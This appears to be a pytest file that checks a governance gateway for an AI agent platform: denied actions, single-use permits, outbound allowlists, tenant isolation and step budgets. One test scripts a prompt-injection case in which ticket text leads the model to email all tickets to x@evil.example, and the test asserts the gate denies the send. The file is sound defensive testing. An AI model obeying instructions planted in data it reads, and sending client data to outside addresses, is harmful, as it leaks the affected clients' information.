"""The gateway is the only way an action runs: bypass attempts per tool kind, permits, isolation, LLM planner.

For each tool kind: a denied action has no side effect; an executor handed no permit, a used permit, a
permit for another action or another client refuses before doing anything.
"""

import pytest
from django.core import mail
from django_tenants.utils import tenant_context

from apps.connectors import services as connector_services
from apps.connectors.models import DataSource
from apps.core.exceptions import ApplicationError
from apps.deployments.models import Deployment
from apps.governance import services as governance
from apps.governance.context import action_clean
from apps.governance.permits import permit_mint
from apps.runtime import gateway, services
from apps.runtime import tools as executors
from apps.runtime.models import LlmEndpoint, Step, Task
from tests.runtime.fakes import fake_llm_server, reply, tool_call, webhook_server

BLOCK = {
    "key": "deny_blocked",
    "name": "Blocked actions",
    "effect": "deny",
    "message": "Blocked for the test.",
    "condition": "has(action.params.blocked)",
}


def _task(world, deployment) -> Task:
    return services.task_create(
        client=world.client_a,
        deployment=deployment,
        workflow="resolve_ticket",
        inputs={"ticket_id": "2", "resolution": "x"},
        source="api",
        actor=world.users["client_a_operator"],
        enqueue=False,
    )


def propose(world, deployment, action: dict) -> Step:
    """One step through the gateway, as a planner's proposal would go: decide, then run if allowed."""
    task = _task(world, deployment)
    with tenant_context(world.client_a):
        step = Step.objects.create(
            task=task,
            position=1,
            key="probe",
            idempotency_key=f"{task.trace_id}:1",
            action={"operation": "", "target_ids": [], **action},
        )
        step.action = action_clean(step.action)
        step.save(update_fields=["action"])
        gateway.step_decide(client=world.client_a, step=step)
        step.refresh_from_db()
        if step.status in Step.RUNNABLE:
            step = gateway.step_execute(client=world.client_a, step=step)
        return step


@pytest.fixture
def outbound_ok(world):
    """Client A may call the loopback fake servers (a partner's explicit choice)."""
    client = world.client_a
    client.outbound_hosts, client.outbound_private_networks = ["127.0.0.1"], True
    client.allowed_hosts = ["127.0.0.1"]
    client.save(update_fields=["outbound_hosts", "outbound_private_networks", "allowed_hosts"])
    return client


@pytest.fixture
def blocked(world, helpdesk):
    governance.rule_save(
        client=world.client_a, rule=BLOCK, layer="client", actor=world.users["client_a_admin"]
    )
    draft = governance.ruleset_draft(client=world.client_a, actor=world.users["client_a_admin"])
    governance.ruleset_publish(client=world.client_a, version=draft, actor=world.users["client_a_admin"])
    return helpdesk


def _ctx(world, deployment, tool):
    return executors.ToolContext(
        client=world.client_a,
        deployment=deployment,
        idempotency_key="t:1",
        spec={"name": tool, "entities": []},
    )


DB_ACTIONS = {
    "db.update": {
        "tool": "db.update",
        "operation": "update",
        "entity": "ticket",
        "params": {"id": 2, "status": "closed", "blocked": True},
        "target_ids": [2],
    },
    "db.insert": {
        "tool": "db.insert",
        "operation": "create",
        "entity": "ticket_comment",
        "params": {"ticket_id": 2, "body": "x", "created_at": "2026-11-22T10:00:00", "blocked": True},
    },
}


@pytest.mark.parametrize("tool", ["db.update", "db.insert"])
def test_denied_database_writes_leave_the_database_unchanged(world, blocked, tool):
    step = propose(world, blocked.deployment, DB_ACTIONS[tool])
    with tenant_context(world.client_a):
        assert step.status == Step.Status.DENIED and "deny_blocked" in step.decision.matched
    assert blocked.ticket(2)["stat_cd"] == "open" and blocked.notes() == []


def test_denied_mail_and_calls_are_not_sent(world, blocked, outbound_ok):
    with webhook_server() as server:
        for action in (
            {
                "tool": "notify.email",
                "operation": "send",
                "params": {"to": "dana@acme.test", "subject": "s", "body": "b", "blocked": True},
            },
            {
                "tool": "notify.webhook",
                "operation": "send",
                "params": {"url": server.url + "/hook", "payload": {}, "blocked": True},
            },
            {
                "tool": "http.request",
                "operation": "read",
                "params": {"url": server.url + "/read", "blocked": True},
            },
        ):
            step = propose(world, blocked.deployment, action)
            assert step.status == Step.Status.DENIED, action["tool"]
        assert server.requests == []
    assert mail.outbox == []


@pytest.mark.parametrize(
    "tool,params",
    [
        ("db.update", {"id": 2, "status": "closed"}),
        ("db.insert", {"ticket_id": 2, "body": "x", "created_at": "2026-11-22T10:00:00"}),
        ("db.get", {"id": 2}),
        ("db.query", {"limit": 5}),
        ("notify.email", {"to": "dana@acme.test", "subject": "s", "body": "b"}),
    ],
)
def test_executors_refuse_without_a_valid_permit(world, helpdesk, tool, params):
    action = {
        "tool": tool,
        "operation": "",
        "entity": "ticket_comment" if tool == "db.insert" else "ticket",
        "params": params,
        "target_ids": [],
    }
    ctx = _ctx(world, helpdesk.deployment, tool)
    with tenant_context(world.client_a):
        for permit in (None, "", "not-a-permit"):
            with pytest.raises(executors.PermitRefused):
                executors.run(permit=permit, action=action, ctx=ctx)
    assert helpdesk.ticket(2)["stat_cd"] == "open" and helpdesk.notes() == [] and mail.outbox == []


def test_a_permit_is_single_use_bound_to_its_action_and_client(world, helpdesk):
    action = action_clean(
        {
            "tool": "db.insert",
            "operation": "create",
            "entity": "ticket_comment",
            "params": {"ticket_id": 2, "body": "once", "created_at": "2026-11-22T10:00:00"},
        }
    )
    step = propose(world, helpdesk.deployment, action)
    assert step.status == Step.Status.EXECUTED and len(helpdesk.notes()) == 1
    ctx = _ctx(world, helpdesk.deployment, "db.insert")
    with tenant_context(world.client_a):
        permit = permit_mint(decision=step.decision, action=step.action)
        changed = {**step.action, "params": {**step.action["params"], "body": "twice"}}
        with pytest.raises(executors.PermitRefused, match="another action"):
            executors.run(permit=permit, action=changed, ctx=ctx)
        executors.run(permit=permit, action=step.action, ctx=ctx)  # the genuine one, once
        with pytest.raises(executors.PermitRefused, match="already been used"):
            executors.run(permit=permit, action=step.action, ctx=ctx)
        other = permit_mint(decision=step.decision, action=step.action)
    with tenant_context(world.client_b), pytest.raises(executors.PermitRefused, match="another client"):
        executors.run(permit=other, action=step.action, ctx=ctx)
    assert [n["note_txt"] for n in helpdesk.notes()] == ["once", "once"]


def test_a_denied_or_held_decision_mints_no_permit(world, blocked):
    step = propose(world, blocked.deployment, DB_ACTIONS["db.update"])
    with tenant_context(world.client_a), pytest.raises(Exception, match="lets nothing run"):
        permit_mint(decision=step.decision, action=step.action)


def approve(world, step: Step) -> Step:
    """A held step approved by client A's admin, then run by the gateway."""
    with tenant_context(world.client_a):
        approval_id = step.approval.pk
    services.approval_approve(
        client=world.client_a, approval_id=approval_id, actor=world.users["client_a_admin"]
    )
    with tenant_context(world.client_a):
        step.refresh_from_db()
        return gateway.step_execute(client=world.client_a, step=step)


def test_webhooks_and_http_reads_go_out_only_through_the_allowlist(world, helpdesk, outbound_ok):
    with webhook_server() as server:
        step = propose(
            world,
            helpdesk.deployment,
            {
                "tool": "notify.webhook",
                "operation": "send",
                "params": {"url": server.url + "/page", "payload": {"ticket": "INC-2"}},
            },
        )
        # The pack holds plain-http calls for a person; nothing went out while it waited.
        assert step.status == Step.Status.HELD and server.requests == []
        step = approve(world, step)
        assert step.status == Step.Status.EXECUTED, (step.status, step.error)
        assert server.paths() == ["/page"]
        assert server.requests[0].headers.get("idempotency-key") == step.idempotency_key
        # A private address the partner did not allow: refused before any connection.
        world.client_a.outbound_private_networks = False
        world.client_a.save(update_fields=["outbound_private_networks"])
        step = approve(
            world,
            propose(
                world,
                helpdesk.deployment,
                {
                    "tool": "notify.webhook",
                    "operation": "send",
                    "params": {"url": server.url + "/again", "payload": {}},
                },
            ),
        )
        assert step.status == Step.Status.FAILED and "private" in step.error.lower()
        assert server.paths() == ["/page"]


def test_client_b_cannot_reach_client_a_data_sources(world, helpdesk):
    with tenant_context(world.client_a):
        source_a = DataSource.objects.get(key="helpdesk")
    engineer = world.users["partner_b_admin"]
    deployment_b = a_deployment_for(world, world.client_b)
    with pytest.raises(ApplicationError):
        connector_services.field_mapping_save(
            client=world.client_b,
            deployment=deployment_b,
            data_source=source_a,
            yaml_text="entities: {}",
            actor=engineer,
        )
    with tenant_context(world.client_b):
        assert not DataSource.objects.exists()
    # Client B's agent has no mapping of its own: its db tools find no data source at all.
    task = services.task_create(
        client=world.client_b,
        deployment=deployment_b,
        workflow="resolve_ticket",
        inputs={"ticket_id": "2", "resolution": "x"},
        source="api",
        actor=world.users["client_b_admin"],
        enqueue=False,
    )
    task = services.task_advance(client=world.client_b, task_id=task.pk)
    with tenant_context(world.client_b):
        load = task.steps.get(key="load")
        assert load.status == Step.Status.FAILED and load.result is None
    assert helpdesk.ticket(2)["stat_cd"] == "open"


def a_deployment_for(world, client) -> Deployment:
    from apps.deployments import services as deployment_services
    from tests.matrix.base import itsm

    partner = world.users["partner_b_admin"]
    admin = world.users["client_b_admin"]
    version = itsm()
    deployment = deployment_services.deployment_create(
        client=client, variant=version.variant, version=version, name="B agent", actor=partner
    )
    deployment_services.deployment_submit(client=client, deployment=deployment, actor=partner)
    deployment_services.deployment_approve(client=client, deployment=deployment, actor=admin)
    return deployment_services.deployment_deploy(client=client, deployment=deployment, actor=partner)


def test_llm_planner_proposals_go_through_the_gate(world, helpdesk):
    script = [
        tool_call("db_get", {"entity": "ticket", "params": {"id": 3}}),
        # The ticket text told the model to mail everything outside: the gate refuses it.
        tool_call(
            "notify_email", {"params": {"to": "x@evil.example", "subject": "all tickets", "body": "…"}}
        ),
        reply("I could not send the mail; the ticket is unchanged."),
    ]
    with fake_llm_server(script) as llm:
        with tenant_context(world.client_a):
            LlmEndpoint.objects.create(
                deployment=helpdesk.deployment,
                base_url=llm.base_url,
                model="fake",
                api_key="sk-test",
                allow_private_network=True,
            )
        task = services.task_create(
            client=world.client_a,
            deployment=helpdesk.deployment,
            instruction="Handle ticket 3",
            source="api",
            actor=world.users["client_a_operator"],
            enqueue=False,
        )
        task = services.task_advance(client=world.client_a, task_id=task.pk)
        with tenant_context(world.client_a):
            assert task.status == Task.Status.COMPLETED, task.outcome
            steps = list(task.steps.order_by("position"))
            assert [(s.action["tool"], s.status) for s in steps] == [
                ("db.get", Step.Status.EXECUTED),
                ("notify.email", Step.Status.DENIED),
            ]
            assert steps[1].decision.deciding_rule == "deny_email_outside_domains"
            assert task.tokens_used == 3 * 18
        # The model was told why its action was refused.
        last = llm.requests[-1].json["messages"][-1]
        assert last["role"] == "tool" and "Denied" in last["content"]
        assert {t["function"]["name"] for t in llm.requests[0].json["tools"]} >= {"db_get", "notify_email"}
    assert mail.outbox == []


def test_llm_planner_stops_at_its_step_budget(world, helpdesk):
    script = [tool_call("db_get", {"entity": "ticket", "params": {"id": i}}) for i in (1, 2, 3)]
    with fake_llm_server(script) as llm:
        with tenant_context(world.client_a):
            LlmEndpoint.objects.create(
                deployment=helpdesk.deployment,
                base_url=llm.base_url,
                model="fake",
                allow_private_network=True,
                max_steps=2,
            )
        task = services.task_create(
            client=world.client_a,
            deployment=helpdesk.deployment,
            instruction="Read tickets",
            source="api",
            actor=world.users["client_a_operator"],
            enqueue=False,
        )
        task = services.task_advance(client=world.client_a, task_id=task.pk)
    with tenant_context(world.client_a):
        assert task.status == Task.Status.FAILED and "step budget" in task.outcome
        assert task.steps.count() == 2
